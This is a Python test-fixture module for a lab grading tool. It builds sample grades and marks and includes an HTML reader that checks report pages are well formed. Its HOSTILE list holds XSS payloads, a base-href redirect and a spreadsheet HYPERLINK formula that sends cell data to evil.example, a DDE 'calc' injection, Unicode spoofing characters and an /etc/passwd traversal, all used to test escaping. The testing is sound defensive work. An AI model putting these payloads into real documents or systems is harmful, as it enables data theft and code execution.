"""Grades made by hand, and names and words that nobody should have: what is written of them is tested beside this."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

from memlab.grading.grade import Grade, Mark, Reason
from memlab.labs.lab import Lab, load

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    "</title><base href=//evil.example>",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "\u202egnp.exe",
    "a\u200bnna",
    "nul\x00byte\r\n=1+2",
    "\ud800 lone",
    "../../etc/passwd",
    "x" * 10_000,
)


def lab() -> Lab:
    return load("06")


def reason(check: str = "write/keeps-any-text", says: str = "write('a') gave None, expected a page") -> Reason:
    return Reason(check, f"It is the law of {check}.", says, ("write('b')", "write('c')"))


def mark(task: str, points: float, *reasons: Reason, visible: bool = True) -> Mark:
    """Make the mark of a task of Lab 06, of which everything held but what there is a reason for."""
    of = next(one for one in lab().rubric.task if one.name == task)
    return Mark(task, of.title, points, of.points, 5 - len(reasons), 5, visible, reasons)


def grade(student: str = "anna", *marks: Mark, says: str = "") -> Grade:
    return Grade(f"{student}.py", student, "ab" * 32, "ok", says, marks or (mark("write", 12),), 1.5)


def worded(words: str) -> Grade:
    """Make a grade in which a stranger chose every word that a stranger can choose."""
    why = Reason("write/keeps-any-text", words, words, (words, words))
    marks = mark("write", 6, why), mark("recall", 0, reason()), mark("stale", 4)
    return Grade(words, words, "ab" * 32, "crashed", words, marks)


def some_lost(student: str, check: str = "write/keeps-any-text", says: str = "gave None") -> Grade:
    return grade(student, mark("write", 9.6, reason(check, says)), mark("recall", 14))


def hidden(one: Grade) -> Grade:
    return replace(one, marks=tuple(replace(mark, visible=False) for mark in one.marks))


class Reader(HTMLParser):
    """Lists the tags of a page and its text, and checks that each tag is closed in its turn."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(page)
        assert self._open == []

    @property
    def names(self) -> list[str]:
        return [name for name, _ in self.tags]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"meta", "img"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self._open:
            self.text += data
